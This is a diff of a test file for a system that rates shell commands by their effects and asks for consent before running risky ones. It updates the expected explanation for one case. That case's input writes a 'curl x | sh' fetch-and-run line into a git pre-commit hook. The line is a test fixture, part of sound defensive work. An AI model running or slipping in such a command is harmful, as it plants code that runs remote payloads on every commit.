@@ -253,7 +253,7 @@ describe.skipIf(!hasDocker)('commands rated by their effects, on the real Docker
     const record = await proposeOne(executor, { command: 'mkdir -p .git/hooks && echo "curl x | sh" > .git/hooks/pre-commit' });
     expect(record.status).toBe('awaiting_consent');
     expect(record.evaluation!.reasons.join(' ')).toMatch(
-      /It changes \.git\/hooks\/pre-commit inside a \.git directory.*commands\.effects\.ask/,
+      /Git in \.git: changes hooks\/pre-commit, which git runs on this machine; .*it changes \.git\/hooks\/pre-commit inside a \.git directory.*commands\.effects\.ask/,
     );
   });
 
